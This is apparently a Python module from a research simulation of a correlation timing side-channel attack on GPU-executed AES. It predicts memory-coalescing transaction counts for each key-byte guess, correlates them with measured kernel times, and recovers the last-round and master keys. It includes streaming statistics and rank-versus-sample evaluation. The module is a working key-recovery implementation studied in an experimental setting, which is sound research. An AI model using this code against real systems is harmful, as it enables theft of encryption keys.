"""Correlation key recovery from kernel timing samples.

The adversary sees (plaintexts, ciphertexts, one time) per kernel run.  For
a key-byte guess it maps each ciphertext byte back to the final-round table
index, predicts how many transactions that warp's 32 lookups coalesce into
at its assumed width, and correlates the prediction with the measured times
over all samples.  The guess with the highest absolute correlation wins;
ranking the true byte first for all 16 positions recovers the round-10 key,
which inverts to the master key.
"""

from __future__ import annotations

from dataclasses import dataclass, field

import numpy as np

from . import aes
from .coalescer import count_lines
from .memsim import TimingSample


@dataclass(frozen=True)
class AttackConfig:
    """What the adversary assumes and how many samples it may use."""

    assumed_elements_per_txn: int = 16  # 64-byte lines of 4-byte elements
    num_samples: int | None = None
    target_bytes: tuple[int, ...] = tuple(range(16))
    informed: bool = False  # use per-sample actual widths when available

    def __post_init__(self):
        e = self.assumed_elements_per_txn
        if e <= 0 or e & (e - 1):
            raise ValueError("assumed_elements_per_txn must be a power of two")
        if self.num_samples is not None and self.num_samples < 10:
            raise ValueError("need at least 10 samples")
        if any(not 0 <= b <= 15 for b in self.target_bytes):
            raise ValueError("target bytes must lie in 0..15")


@dataclass
class SampleSet:
    """Column-packed timing samples; the immutable store the analysis reads."""

    times: np.ndarray  # (S,)
    ciphertexts: np.ndarray  # (S, N, 16) uint8
    plaintexts: np.ndarray | None = None
    elements_per_txn_per_sample: np.ndarray | None = None  # informed-attacker data

    def __post_init__(self):
        self.times = np.asarray(self.times, dtype=np.float64)
        self.ciphertexts = np.asarray(self.ciphertexts, dtype=np.uint8)
        if self.ciphertexts.ndim != 3 or self.ciphertexts.shape[0] != self.times.shape[0]:
            raise ValueError("ciphertexts must be (S, N, 16) matching times")

    def __len__(self) -> int:
        return int(self.times.shape[0])

    @property
    def n_warps(self) -> int:
        return self.ciphertexts.shape[1] // 32

    def prefix(self, n: int) -> "SampleSet":
        return SampleSet(
            times=self.times[:n],
            ciphertexts=self.ciphertexts[:n],
            plaintexts=None if self.plaintexts is None else self.plaintexts[:n],
            elements_per_txn_per_sample=(
                None
                if self.elements_per_txn_per_sample is None
                else self.elements_per_txn_per_sample[:n]
            ),
        )

    @classmethod
    def from_samples(cls, samples: list[TimingSample]) -> "SampleSet":
        times = np.array([s.time for s in samples])
        cts = np.stack([s.ciphertexts for s in samples])
        pts = np.stack([s.plaintexts for s in samples])
        return cls(times=times, ciphertexts=cts, plaintexts=pts)


@dataclass
class CorrelationReport:
    """256-guess distinguisher sweep for one ciphertext byte position."""

    byte_pos: int
    correlations: np.ndarray  # (256,)
    best_guess: int
    samples_used: int
    rank_of_true_key: int | None = None
    true_byte: int | None = None
    zero_variance_guesses: list[int] = field(default_factory=list)

    @property
    def rho_peak(self) -> float | None:
        """|correlation| at the true key byte, when the truth is known."""
        if self.true_byte is None:
            return None
        return float(abs(self.correlations[self.true_byte]))

    @property
    def rho_ave(self) -> float | None:
        """Mean |correlation| over the 255 wrong guesses (truth required)."""
        if self.true_byte is None:
            return None
        mask = np.ones(256, dtype=bool)
        mask[self.true_byte] = False
        return float(np.abs(self.correlations[mask]).mean())


@dataclass
class AttackReport:
    reports: list[CorrelationReport]
    recovered_round10_key: bytes | None
    recovered_master_key: bytes | None
    success: bool | None
    samples_used: int

    def to_json_dict(self) -> dict:
        return {
            "schema_version": 1,
            "samples_used": self.samples_used,
            "recovered_round10_key": (
                self.recovered_round10_key.hex() if self.recovered_round10_key else None
            ),
            "recovered_master_key": (
                self.recovered_master_key.hex() if self.recovered_master_key else None
            ),
            "success": self.success,
            "bytes": [
                {
                    "byte_pos": r.byte_pos,
                    "best_guess": r.best_guess,
                    "rank_of_true_key": r.rank_of_true_key,
                    "rho_peak": r.rho_peak,
                    "rho_ave": r.rho_ave,
                    "zero_variance_guesses": r.zero_variance_guesses,
                    "correlations": [float(c) for c in r.correlations],
                }
                for r in self.reports
            ],
        }


# ---------------------------------------------------------------------------
# Prediction
# ---------------------------------------------------------------------------

def predict_count(sample: TimingSample, byte_pos: int, key_guess: int, config: AttackConfig) -> int:
    """Predicted transaction count for one sample under one guess (summed
    over the sample's warps)."""
    total = 0
    for warp in sample.warp_ciphertexts():
        indices = aes.last_round_indices(warp[:, byte_pos], key_guess)
        total += count_lines(indices, config.assumed_elements_per_txn)
    return total


def predicted_counts_all_guesses(
    ct_bytes: np.ndarray, elements_per_txn, n_warps: int
) -> np.ndarray:
    """(256, S) predicted counts from the (S, N) ciphertext byte column.

    ``elements_per_txn`` may be a scalar or an (S,) vector (informed
    attacker).  Works on 16-element granule spaces and finer.
    """
    s, n = ct_bytes.shape
    shift = (
        np.log2(np.asarray(elements_per_txn)).astype(np.uint8)
        if np.ndim(elements_per_txn)
        else int(elements_per_txn).bit_length() - 1
    )
    out = np.empty((256, s), dtype=np.int16)
    for guess in range(256):
        idx = aes.INV_SBOX[ct_bytes ^ np.uint8(guess)]
        if np.ndim(shift):
            gran = (idx >> shift[:, None]).astype(np.uint8)
        else:
            gran = idx >> shift
        gran = gran.reshape(s, n_warps, 32)
        if gran.max(initial=0) < 16:
            masks = np.bitwise_or.reduce(
                np.uint16(1) << gran.astype(np.uint16), axis=2
            )
            out[guess] = np.bitwise_count(masks).sum(axis=1)
        else:
            # finer granularities: count boundaries in the sorted ids
            g = np.sort(gran, axis=2)
            distinct = 1 + (np.diff(g, axis=2) != 0).sum(axis=2)
            out[guess] = distinct.sum(axis=1)
    return out


# ---------------------------------------------------------------------------
# Correlation
# ---------------------------------------------------------------------------

def pearson(x, y) -> float:
    """Sample Pearson correlation; raises on constant input."""
    x = np.asarray(x, dtype=np.float64)
    y = np.asarray(y, dtype=np.float64)
    if x.shape != y.shape or x.ndim != 1 or x.size < 2:
        raise ValueError("need two equal-length vectors of length >= 2")
    xc = x - x.mean()
    yc = y - y.mean()
    sx = float(xc @ xc)
    sy = float(yc @ yc)
    if sx == 0.0 or sy == 0.0:
        raise ValueError("zero variance input: correlation undefined")
    return float(xc @ yc) / np.sqrt(sx * sy)


def _guess_correlations(counts: np.ndarray, times: np.ndarray):
    """Correlations of each guess row of ``counts`` with ``times``.

    Zero-variance guesses come back as correlation 0 and are flagged.
    """
    t = times - times.mean()
    st = float(t @ t)
    c = counts.astype(np.float64)
    c -= c.mean(axis=1, keepdims=True)
    sc = np.einsum("gs,gs->g", c, c)
    flat = sc == 0.0
    sc[flat] = 1.0
    r = (c @ t) / np.sqrt(sc * st)
    r[flat] = 0.0
    return r, np.nonzero(flat)[0].tolist()


def attack_byte(
    samples: SampleSet,
    byte_pos: int,
    config: AttackConfig,
    true_byte: int | None = None,
) -> CorrelationReport:
    """Sweep all 256 guesses for one byte position."""
    if len(samples) < 2:
        raise ValueError("need at least 2 samples")
    n_used = len(samples) if config.num_samples is None else min(config.num_samples, len(samples))
    sub = samples.prefix(n_used)
    elems = (
        sub.elements_per_txn_per_sample
        if config.informed and sub.elements_per_txn_per_sample is not None
        else config.assumed_elements_per_txn
    )
    counts = predicted_counts_all_guesses(
        sub.ciphertexts[:, :, byte_pos], elems, sub.n_warps
    )
    r, flat = _guess_correlations(counts, sub.times)
    best = int(np.argmax(np.abs(r)))  # lowest index wins ties
    rank = None
    if true_byte is not None:
        order = np.argsort(-np.abs(r), kind="stable")
        rank = int(np.nonzero(order == true_byte)[0][0]) + 1
    return CorrelationReport(
        byte_pos=byte_pos,
        correlations=r,
        best_guess=best,
        samples_used=n_used,
        rank_of_true_key=rank,
        true_byte=true_byte,
        zero_variance_guesses=flat,
    )


def attack_full(
    samples: SampleSet,
    config: AttackConfig,
    truth: bytes | None = None,
) -> AttackReport:
    """Run the per-byte sweep over the configured positions and assemble the
    key.  ``truth`` is the round-10 key when rank bookkeeping is wanted."""
    reports = []
    unusable = False
    for byte_pos in config.target_bytes:
        tb = None if truth is None else truth[byte_pos]
        rep = attack_byte(samples, byte_pos, config, true_byte=tb)
        if len(rep.zero_variance_guesses) == 256:
            unusable = True
        reports.append(rep)
    round10 = None
    master = None
    if len(config.target_bytes) == 16 and not unusable:
        round10 = bytes(rep.best_guess for rep in reports)
        master = aes.invert_schedule(round10)
    if truth is None:
        success = None
    elif unusable or len(config.target_bytes) < 16:
        success = False
    else:
        success = all(rep.rank_of_true_key == 1 for rep in reports)
    return AttackReport(
        reports=reports,
        recovered_round10_key=round10,
        recovered_master_key=master,
        success=success,
        samples_used=reports[0].samples_used if reports else 0,
    )


def min_samples_to_rank1(
    samples: SampleSet,
    byte_pos: int,
    config: AttackConfig,
    step: int,
    true_byte: int,
    consecutive: int = 3,
) -> int | None:
    """Smallest probed prefix where the true byte is rank 1 and stays rank 1
    for ``consecutive`` probes; None when the budget saturates."""
    if step < 2:
        raise ValueError("step must be at least 2")
    probes = range(step, len(samples) + 1, step)
    streak_start = None
    streak = 0
    for n in probes:
        rep = attack_byte(samples.prefix(n), byte_pos, config, true_byte=true_byte)
        if rep.rank_of_true_key == 1:
            if streak == 0:
                streak_start = n
            streak += 1
            if streak >= consecutive:
                return streak_start
        else:
            streak = 0
            streak_start = None
    return None


# ---------------------------------------------------------------------------
# Streaming sufficient statistics, for batches too large to hold in memory
# ---------------------------------------------------------------------------

def _guess_bit_lut(elements_per_txn: int) -> np.ndarray:
    """bit_lut[g, c] = line-mask bit for ciphertext byte c under guess g."""
    shift = int(elements_per_txn).bit_length() - 1
    guesses = np.arange(256, dtype=np.uint8)[:, None]
    cbytes = np.arange(256, dtype=np.uint8)[None, :]
    lines = aes.INV_SBOX[cbytes ^ guesses] >> shift
    if lines.max() > 15:
        raise ValueError("streaming path supports up to 16 granules per table")
    return (np.uint16(1) << lines.astype(np.uint16)).astype(np.uint16)


_POPC16 = np.bitwise_count(np.arange(65536, dtype=np.uint16)).astype(np.uint8)


class StreamingAttack:
    """Accumulates per-(byte, guess) correlation statistics chunk by chunk.

    Prefix snapshots taken at probe points make rank-vs-samples trajectories
    available without storing the ciphertexts.  Restricted to 16-byte-wide
    target sets (all byte positions), the common case for full-key attacks.
    """

    def __init__(self, config: AttackConfig, n_warps: int):
        if tuple(config.target_bytes) != tuple(range(16)):
            raise ValueError("streaming attack covers all 16 byte positions")
        self.config = config
        self.n_warps = n_warps
        self.n = 0
        self.sum_t = 0.0
        self.sum_tt = 0.0
        self.sum_c = np.zeros((16, 256))
        self.sum_cc = np.zeros((16, 256))
        self.sum_ct = np.zeros((16, 256))
        self._bit_lut = _guess_bit_lut(config.assumed_elements_per_txn)
        self.snapshots: list[tuple[int, np.ndarray]] = []

    def update(self, times: np.ndarray, cts: np.ndarray):
        from ._fastsim import guess_count_stats

        times = np.ascontiguousarray(times, dtype=np.float64)
        cts = np.ascontiguousarray(cts, dtype=np.uint8)
        self.sum_t += times.sum()
        self.sum_tt += float(times @ times)
        guess_count_stats(
            cts, times, self._bit_lut, _POPC16, self.sum_c, self.sum_cc, self.sum_ct
        )
        self.n += len(times)

    def correlations(self) -> np.ndarray:
        """(bytes, 256) correlation matrix from the accumulated sums."""
        n = self.n
        vt = self.sum_tt - self.sum_t**2 / n
        vc = self.sum_cc - self.sum_c**2 / n
        cov = self.sum_ct - self.sum_c * (self.sum_t / n)
        denom = np.sqrt(np.where(vc <= 0, 1.0, vc) * vt)
        r = np.where(vc <= 0, 0.0, cov / denom)
        return r

    def snapshot(self):
        self.snapshots.append((self.n, self.correlations()))
